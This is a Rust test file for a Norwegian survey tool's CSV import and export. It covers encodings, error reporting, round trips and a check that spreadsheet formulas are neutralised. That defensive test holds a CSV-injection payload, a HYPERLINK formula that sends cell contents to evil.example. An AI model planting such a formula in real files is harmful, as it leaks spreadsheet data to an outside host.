//! CSV import and export in the exchange format, with files made by
//! trappa's own generator (`trappa demo --csv`).

use crate::helpers::*;

const ROWS: &str = "3000";

fn import_generated(env: &TestEnv, file: &str) -> String {
    env.ok(&["import", file, "--create", "--municipality", "Solvik"])
}

fn imported_total(out: &str) -> usize {
    out.lines()
        .filter_map(|l| l.strip_prefix("Importerte "))
        .map(|l| l.split(' ').next().unwrap().parse::<usize>().unwrap())
        .sum()
}

#[test]
fn generated_files_import_exactly_in_both_dialects() {
    let env = TestEnv::new();
    let plain = env.path("plain.csv");
    let excel = env.path("excel.csv");
    generate(&plain, &["--responses", ROWS, "--seed", "7"]);
    generate(
        &excel,
        &[
            "--responses",
            ROWS,
            "--seed",
            "7",
            "--sep",
            ";",
            "--bom",
            "--crlf",
        ],
    );
    assert!(
        std::fs::read(&excel)
            .unwrap()
            .starts_with(&[0xEF, 0xBB, 0xBF])
    );

    let out = import_generated(&env, "plain.csv");
    assert_eq!(imported_total(&out), 3000, "{out}");
    assert!(out.contains("Opprettet runde(r): "), "{out}");
    let exported = env.ok(&["export"]);

    // Every generated row comes back with the same values, round by round
    // (in an order of their own: the export follows random ids).
    // (A comment of only spaces is no comment: it comes back empty.)
    let mut original = parse_csv(&std::fs::read(&plain).unwrap());
    for row in &mut original {
        for (column, value) in row.iter_mut() {
            if column == "kommentar" && value.trim().is_empty() {
                value.clear();
            }
        }
    }
    original.sort();
    let back: Vec<Vec<(String, String)>> = sorted_rows(exported.as_bytes());
    assert_eq!(back.len(), original.len());
    for round in ["2024", "2025", "2026"] {
        let a: Vec<_> = original
            .iter()
            .filter(|r| cell(r, "round") == round)
            .collect();
        let b: Vec<_> = back.iter().filter(|r| cell(r, "round") == round).collect();
        assert_eq!(a.len(), b.len(), "round {round}");
        for (x, y) in a.iter().zip(&b) {
            for (column, value) in x.iter() {
                assert_eq!(cell(y, column), value, "round {round}, column {column}");
            }
        }
    }

    // The Excel dialect of the same data gives a byte-identical export.
    let env2 = TestEnv::new();
    std::fs::copy(&excel, env2.path("excel.csv")).unwrap();
    let out = import_generated(&env2, "excel.csv");
    assert_eq!(imported_total(&out), 3000, "{out}");
    assert_eq!(
        sorted_rows(env2.ok(&["export"]).as_bytes()),
        sorted_rows(exported.as_bytes())
    );
}

#[test]
fn export_then_import_is_exact() {
    let env = TestEnv::new();
    generate(
        &env.path("g.csv"),
        &["--responses", "1500", "--seed", "3", "--units", "12"],
    );
    import_generated(&env, "g.csv");
    env.ok(&["export", "--out", "a.csv"]);

    let env2 = TestEnv::new();
    std::fs::copy(env.path("a.csv"), env2.path("a.csv")).unwrap();
    env2.ok(&["import", "a.csv", "--create", "--municipality", "Solvik"]);
    env2.ok(&["export", "--out", "b.csv"]);
    let a = std::fs::read(env.path("a.csv")).unwrap();
    let b = std::fs::read(env2.path("b.csv")).unwrap();
    assert!(a.len() > 100_000);
    assert!(
        sorted_rows(&a) == sorted_rows(&b),
        "export → import → export changed the data"
    );
    // And the structure came along: same rounds, same units.
    // (`--create` adds units as the file names them, so in another order.)
    let status = |e: &TestEnv| {
        let mut lines: Vec<String> = e
            .ok(&["status", "--round", "2025"])
            .lines()
            .map(String::from)
            .collect();
        lines.sort();
        lines
    };
    assert_eq!(status(&env), status(&env2));
}

#[test]
fn a_file_with_bad_rows_imports_nothing_and_names_every_one() {
    let env = TestEnv::new();
    env.open_round();
    let file = "round;unit;role;trapp.skole.now;trapp.skole.goal;plakat.p01;kommentar\r\n\
        2026;Kulturskolen;ansatt;2;3;4;\r\n\
        2026;Kulturskolen;ansatt;5;3;4;\r\n\
        2026;Kulturskolen;ansatt;2;3;4;\"to\r\nlinjer\"\r\n\
        2026;Ukjent skole;ansatt;;;x;\r\n\
        2026;Kulturskolen;rektor;1;1;1;\r\n\
        2026;Kulturskolen;ansatt;1\r\n\
        2031;Kulturskolen;ansatt;1;1;1;\r\n";
    std::fs::write(env.path("bad.csv"), file).unwrap();
    let out = env.run(&["import", "bad.csv"]);
    assert_eq!(out.status.code(), Some(3));
    let err = String::from_utf8(out.stderr).unwrap();
    let expect = [
        "rad 3 (linje 3), kolonne «trapp.skole.now»: 5 er utenfor skalaen 1–4",
        "rad 5 (linje 6), kolonne «unit»: enheten «Ukjent skole» finnes ikke i runde 2026",
        "rad 5 (linje 6), kolonne «plakat.p01»: «x» er ikke et heltall fra 1 til 5",
        "rad 6 (linje 7), kolonne «role»: ukjent rolle «rektor»",
        "rad 7 (linje 8): raden har 4 felt, men overskriften har 7",
        "rad 8 (linje 9), kolonne «round»: runden «2031» finnes ikke",
    ];
    for e in expect {
        assert!(err.contains(e), "missing «{e}» in:\n{err}");
    }
    assert!(
        err.contains("ingenting ble importert: 6 feil i 5 rad(er)"),
        "{err}"
    );
    assert!(!err.contains("rad 2 "), "good rows are not listed:\n{err}");
    assert_eq!(
        env.export_rows("2026").len(),
        0,
        "nothing half-done is stored"
    );

    // Fixed, the same file imports in full (the comment keeps its line break).
    let fixed = file
        .replace(";5;3;4;", ";1;3;4;")
        .replace("Ukjent skole;ansatt;;;x", "Kulturskolen;ansatt;;;")
        .replace("rektor", "leder")
        .replace(";ansatt;1\r\n", ";ansatt;1;;;\r\n")
        .replace("2031;", "2026;");
    std::fs::write(env.path("fixed.csv"), fixed).unwrap();
    let out = env.ok(&["import", "fixed.csv"]);
    assert!(out.contains("Importerte 7 svar til runde 2026"), "{out}");
    let rows = env.export_rows("2026");
    assert!(rows.iter().any(|r| cell(r, "kommentar") == "to\r\nlinjer"));
}

#[test]
fn unknown_columns_and_missing_rounds_need_create() {
    let env = TestEnv::new();
    env.open_round();
    std::fs::write(
        env.path("x.csv"),
        "round,unit,role,plakat.p11\n2026,Kulturskolen,ansatt,3\n",
    )
    .unwrap();
    let out = env.run(&["import", "x.csv"]);
    assert_eq!(out.status.code(), Some(3));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("rad 1 (linje 1), kolonne «plakat.p11»: kolonnen hører ikke til"),
        "{err}"
    );

    // --round picks one round's rows from a file with several.
    generate(&env.path("g.csv"), &["--responses", "600", "--seed", "5"]);
    let out = env.run(&["import", "g.csv", "--round", "2025"]);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("runden «2025» finnes ikke (bruk --create")
    );
    let out = env.ok(&["import", "g.csv", "--round", "2025", "--create"]);
    assert!(
        out.contains("til runde 2025") && out.contains("Hoppet over"),
        "{out}"
    );
    assert!(!env.ok(&["round", "list"]).contains("2024"));
}

/// Text typed by staff that a spreadsheet would run as a formula (starting
/// with =, +, -, @, a tab or a carriage return) is neutralised in every
/// export, and an import of that export gives back exactly what was typed.
#[tokio::test]
async fn formulas_in_answers_are_neutralised_in_exports_and_read_back_exactly() {
    let env = TestEnv::new();
    env.open_round();
    let typed = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"klikk\")",
        "+47 99 99 99 99",
        "-2+3",
        "@SUM(A1:A9)",
        "\tinnrykk",
        "'=allerede sitert",
        "''+to sitater",
        "vanlig tekst",
    ];
    let mut file = String::from("round,unit,role,kommentar\n");
    for t in typed {
        file.push_str(&format!(
            "2026,Kulturskolen,ansatt,\"{}\"\n",
            t.replace('"', "\"\"")
        ));
    }
    std::fs::write(env.path("in.csv"), file).unwrap();
    env.ok(&["import", "in.csv"]);
    let server = env.spawn_server();
    let c = client();
    login_admin(&c, &server).await;
    let from_web = c
        .get(server.url("/admin/rounds/2026/export.csv"))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    for export in [env.ok(&["export"]).into_bytes(), from_web.to_vec()] {
        for row in parse_csv(&export) {
            for (column, value) in &row {
                assert!(
                    !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{column} starts a formula: {value:?}"
                );
            }
        }
    }
    // Import the export into a new database: the same text comes back.
    env.ok(&["export", "--out", "ut.csv"]);
    let env2 = TestEnv::new();
    env2.open_round();
    std::fs::copy(env.path("ut.csv"), env2.path("ut.csv")).unwrap();
    env2.ok(&["import", "ut.csv"]);
    let mut back: Vec<String> = env2
        .export_rows("2026")
        .iter()
        .map(|r| cell(r, "kommentar").to_string())
        .collect();
    let mut again: Vec<String> = env
        .export_rows("2026")
        .iter()
        .map(|r| cell(r, "kommentar").to_string())
        .collect();
    back.sort();
    again.sort();
    assert_eq!(back, again, "export → import → export is exact");
    // And the report shows what was typed, not the quote.
    let json = env.ok(&[
        "report", "--format", "json", "--min-n", "3", "--out", "r.json",
    ]);
    let _ = json;
    let report = std::fs::read_to_string(env.path("r.json")).unwrap();
    assert!(report.contains("=HYPERLINK"), "{report}");
    assert!(!report.contains("'=HYPERLINK"), "{report}");
}

/// What Norwegian Excel writes as "CSV (semikolondelt)": Windows-1252, not
/// UTF-8. Its æ, ø, å and « » arrive as they were typed.
#[test]
fn a_windows_1252_file_from_excel_imports_with_its_letters() {
    let env = TestEnv::new();
    std::fs::write(
        env.path("runde.toml"),
        "municipality = \"Solvik\"\ninstruments = [\"innovasjonsplakaten\", \"kommentar\"]\nunits = [\"Åsen barnehage\", \"Ungdomsklubben «Tårnet»\"]\n",
    )
    .unwrap();
    env.ok(&["round", "create", "2026", "--file", "runde.toml"]);
    let text = "round;unit;role;plakat.p01;kommentar\r\n\
                2026;Åsen barnehage;ansatt;4;Vi får til mye på tvers – særlig i år\r\n\
                2026;Ungdomsklubben «Tårnet»;leder;5;Økt samarbeid\r\n";
    // Windows-1252 by hand: every character here is one byte there.
    let bytes = windows_1252(text);
    assert!(
        std::str::from_utf8(&bytes).is_err(),
        "the file is not UTF-8"
    );
    std::fs::write(env.path("excel.csv"), bytes).unwrap();
    let out = env.ok(&["import", "excel.csv"]);
    assert!(out.contains("Importerte 2 svar"), "{out}");
    let rows = env.export_rows("2026");
    let comments: Vec<&str> = rows.iter().map(|r| cell(r, "kommentar")).collect();
    assert!(
        comments.contains(&"Vi får til mye på tvers – særlig i år"),
        "{comments:?}"
    );
    assert!(comments.contains(&"Økt samarbeid"), "{comments:?}");
}

/// `import --create` with bad round names on several rows names each row,
/// with its own row and line number, and stores nothing.
#[test]
fn bad_round_names_are_named_on_their_own_rows() {
    let env = TestEnv::new();
    let file = "round,unit,role,plakat.p01\n\
                2026,Kulturskolen,ansatt,4\n\
                20 26,Kulturskolen,ansatt,4\n\
                2027,Kulturskolen,ansatt,3\n\
                x/y,Kulturskolen,ansatt,2\n";
    std::fs::write(env.path("r.csv"), file).unwrap();
    let out = env.run(&["import", "r.csv", "--create", "--municipality", "Solvik"]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("rad 3 (linje 3), kolonne «round»"), "{err}");
    assert!(err.contains("rad 5 (linje 5), kolonne «round»"), "{err}");
    assert!(err.contains("«20 26»") && err.contains("«x/y»"), "{err}");
    assert!(!err.contains("rad 1 "), "{err}");
    assert!(
        !env.ok(&["round", "list"]).contains("2026"),
        "nothing is stored"
    );
}

/// "Vet ikke" in any of the three languages is the survey's own answer: it
/// is kept apart from a blank cell, comes back from the export as
/// "vet ikke" (lossless through export → import).
#[test]
fn dont_know_in_three_languages_is_kept_apart_from_unanswered() {
    let env = TestEnv::new();
    env.open_round();
    let text = "round,unit,role,plakat.p01,plakat.p02,trapp.skole.now\n\
                2026,Kulturskolen,ansatt,Vet ikke,,4\n\
                2026,Kulturskolen,ansatt,Veit ikkje,2,Don't know\n\
                2026,Kulturskolen,ansatt, don't KNOW ,3,3\n\
                2026,Kulturskolen,ansatt,4,,\n";
    std::fs::write(env.path("svar.csv"), text).unwrap();
    let out = env.ok(&["import", "svar.csv"]);
    assert!(out.contains("Importerte 4 svar"), "{out}");
    let rows = env.export_rows("2026");
    let mut p01: Vec<&str> = rows.iter().map(|r| cell(r, "plakat.p01")).collect();
    p01.sort();
    assert_eq!(p01, ["4", "vet ikke", "vet ikke", "vet ikke"]);
    let mut p02: Vec<&str> = rows.iter().map(|r| cell(r, "plakat.p02")).collect();
    p02.sort();
    assert_eq!(p02, ["", "", "2", "3"]);
    let mut now: Vec<&str> = rows.iter().map(|r| cell(r, "trapp.skole.now")).collect();
    now.sort();
    assert_eq!(now, ["", "3", "4", "vet ikke"]);

    // Export → import → export keeps them.
    env.ok(&["export", "--out", "ut.csv"]);
    let env2 = TestEnv::new();
    env2.open_round();
    std::fs::copy(env.path("ut.csv"), env2.path("ut.csv")).unwrap();
    env2.ok(&["import", "ut.csv"]);
    env2.ok(&["export", "--out", "ut2.csv"]);
    let a = std::fs::read(env.path("ut.csv")).unwrap();
    let b = std::fs::read(env2.path("ut2.csv")).unwrap();
    assert!(
        sorted_rows(&a) == sorted_rows(&b),
        "export → import changed it"
    );
}

/// `report --csv` reads what Norwegian Excel saves (Windows-1252) with its
/// letters, as the import does: unit names and comments arrive as typed.
#[test]
fn a_windows_1252_file_gives_a_report_with_its_letters() {
    let env = TestEnv::new();
    let mut text = String::from("round;unit;role;plakat.p01;kommentar\r\n");
    for i in 0..6 {
        text.push_str(&format!(
            "2026;Åsen barnehage;ansatt;{};Særlig «tårnet» i år\r\n",
            i % 5 + 1
        ));
    }
    let bytes = windows_1252(&text);
    assert!(
        std::str::from_utf8(&bytes).is_err(),
        "the file is not UTF-8"
    );
    std::fs::write(env.path("excel.csv"), bytes).unwrap();
    env.ok(&[
        "report",
        "--csv",
        "excel.csv",
        "--format",
        "json",
        "--min-n",
        "3",
        "--out",
        "r.json",
    ]);
    let report = std::fs::read_to_string(env.path("r.json")).unwrap();
    assert!(report.contains("Åsen barnehage"), "{report}");
    assert!(report.contains("Særlig «tårnet» i år"), "{report}");
    assert!(!report.contains('\u{FFFD}'), "{report}");
}

/// `text` as Norwegian Excel saves it: Windows-1252, by hand (every
/// character the tests use is one byte there).
fn windows_1252(text: &str) -> Vec<u8> {
    text.chars()
        .map(|c| match c {
            'Å' => 0xC5,
            'å' => 0xE5,
            'æ' => 0xE6,
            'ø' => 0xF8,
            'Ø' => 0xD8,
            '«' => 0xAB,
            '»' => 0xBB,
            '–' => 0x96,
            c if c.is_ascii() => c as u8,
            other => panic!("not in the test's table: {other}"),
        })
        .collect()
}

/// A round made by `import --create` lists what does not depend on who
/// answered: the usual roles (a role only the answers name is refused,
/// with its name), and the units of the municipality's newest round as
/// well as those the file has answers from, which the import names.
#[test]
fn a_round_made_by_import_lists_roles_and_units_that_do_not_tell_who_answered() {
    let env = TestEnv::new();
    let rows = |round: &str, unit: &str, role: &str, n: usize| -> String {
        (0..n)
            .map(|i| format!("{round},{unit},{role},{}\n", i % 5 + 1))
            .collect()
    };
    let header = "round,unit,role,plakat.p01\n";
    // A role that only the answers name: refused, named, nothing stored.
    std::fs::write(
        env.path("a.csv"),
        format!(
            "{header}{}{}",
            rows("2019", "A", "ansatt", 6),
            rows("2019", "A", "konsulent", 1)
        ),
    )
    .unwrap();
    let out = env.run(&["import", "a.csv", "--create", "--municipality", "Solvik"]);
    assert_eq!(out.status.code(), Some(3));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("ukjent rolle «konsulent»"), "{err}");
    let listed = env.ok(&["round", "list"]);
    assert!(!listed.contains("2019"), "{listed}");
    // Without it: the round lists the three usual roles, and A and B.
    std::fs::write(
        env.path("b.csv"),
        format!(
            "{header}{}{}",
            rows("2019", "A", "ansatt", 6),
            rows("2019", "B", "ansatt", 1)
        ),
    )
    .unwrap();
    let out = env.ok(&["import", "b.csv", "--create", "--municipality", "Solvik"]);
    assert!(
        out.contains("enhetene A, B ble opprettet fordi filen har svar fra dem"),
        "{out}"
    );
    // A later round made from a file with answers from A only lists B too:
    // its list is the municipality's, not the answers'.
    std::fs::write(
        env.path("c.csv"),
        format!("{header}{}", rows("2020", "A", "ansatt", 6)),
    )
    .unwrap();
    let out = env.ok(&["import", "c.csv", "--create"]);
    assert!(!out.contains("Merk:"), "{out}");
    env.ok(&[
        "report", "--round", "2020", "--format", "json", "--out", "r.json",
    ]);
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(env.path("r.json")).unwrap()).unwrap();
    let a = &json["analysis"];
    assert_eq!(
        a["roles"],
        serde_json::json!(["ansatt", "leder", "folkevalgt"])
    );
    let units: Vec<&str> = a["by_unit"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["name"].as_str().unwrap())
        .collect();
    assert!(units.contains(&"A") && units.contains(&"B"), "{units:?}");
}
